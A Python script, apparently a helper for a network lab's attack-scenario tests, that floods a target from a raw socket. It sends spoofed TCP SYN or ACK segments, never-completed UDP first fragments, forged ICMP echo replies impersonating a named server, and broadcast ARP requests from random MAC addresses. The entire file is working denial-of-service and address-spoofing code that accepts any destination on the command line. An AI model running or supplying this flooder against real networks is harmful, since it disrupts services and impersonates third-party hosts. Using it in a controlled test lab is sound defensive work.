#!/usr/bin/env python3
"""flood: spoofed packets from a raw socket, as fast as Python goes, for the lab's
attack scenarios (tests/lab/t_attack.sh).

    flood.py ack|syn DST DPORT SECONDS    TCP segments from sources drawn from
                                          198.18.0.0/15 (the benchmarking range:
                                          nothing in the lab answers for it)
    flood.py frag DST DPORT SECONDS       first fragments (MF, offset 0) of UDP datagrams
                                          to DST:DPORT that never complete: random
                                          identifiers, sources from 198.18.0.0/15
    flood.py echoreply DST SRC SECONDS    ICMP echo replies "from" SRC (a real server,
                                          say), random identifier, sequence and payload
    flood.py arp DST IFACE SECONDS        broadcast ARP requests for DST on IFACE, each
                                          "from" a random address of DST's /24 between
                                          .100 and .250 at a random MAC (raw frames)
Prints the number of packets sent.
"""
import random
import socket
import struct
import sys
import time


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s & 0xFFFF) + (s >> 16)
    s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def segment(src, dst, sport, dport, flags):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32),
                      random.getrandbits(32), 5 << 4, flags, 65535, 0, 0)
    ph = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(ph + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + tcp


def first_fragment(src, dst, dport):
    """The first 520 bytes of a 1,208-byte UDP datagram: MF set, the rest never sent."""
    udp = struct.pack("!HHHH", 1024 + random.randrange(60000), dport, 1208, 0)
    data = udp + random.randbytes(512)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(data), random.getrandbits(16),
                     0x2000, 64, 17, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + data


def echo_reply(src, dst):
    data = random.randbytes(32)
    icmp = struct.pack("!BBHHH", 0, 0, 0, random.getrandbits(16), random.getrandbits(16))
    icmp = icmp[:2] + struct.pack("!H", csum(icmp + data)) + icmp[4:] + data
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(icmp), 0, 0, 64, 1, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return ip + icmp


def arp_request(sender_ip, sender_mac, target_ip):
    eth = b"\xff" * 6 + sender_mac + struct.pack("!H", 0x0806)
    arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 1, sender_mac, sender_ip,
                      b"\0" * 6, target_ip)
    return eth + arp + b"\0" * 18


def arp_flood(dst, iface, secs):
    d = socket.inet_aton(dst)
    frames = []
    for _ in range(4096):
        mac = bytes([0x02]) + random.randbytes(5)     # locally administered, unicast
        frames.append(arp_request(d[:3] + bytes([random.randrange(100, 251)]), mac, d))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    sent, end = 0, time.monotonic() + secs
    while time.monotonic() < end:
        for f in frames[:1024] if sent % 4096 else frames:
            try:
                s.send(f)
                sent += 1
            except OSError:
                pass
    print(sent)


def main():
    kind, dst, secs = sys.argv[1], sys.argv[2], float(sys.argv[4])
    d = socket.inet_aton(dst)
    pkts = []
    if kind == "arp":
        arp_flood(dst, sys.argv[3], secs)
        return
    if kind == "echoreply":
        src = socket.inet_aton(sys.argv[3])
        pkts = [echo_reply(src, d) for _ in range(4096)]
    elif kind == "frag":
        dport = int(sys.argv[3])
        for i in range(4096):
            src = struct.pack("!I", 0xC6120000 + random.randrange(1 << 17))
            pkts.append(first_fragment(src, d, dport))
    else:
        flags = {"ack": 0x10, "syn": 0x02}[kind]
        dport = int(sys.argv[3])
        for i in range(4096):
            src = struct.pack("!I", 0xC6120000 + random.randrange(1 << 17))
            pkts.append(segment(src, d, 1024 + random.randrange(60000), dport, flags))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.SOL_IP, socket.IP_HDRINCL, 1)
    sent, end, addr = 0, time.monotonic() + secs, (dst, 0)
    while time.monotonic() < end:
        for p in pkts[:1024] if sent % 4096 else pkts:
            try:
                s.sendto(p, addr)
                sent += 1
            except OSError:     # a full socket buffer: the link is saturated
                pass
    print(sent)


if __name__ == "__main__":
    main()
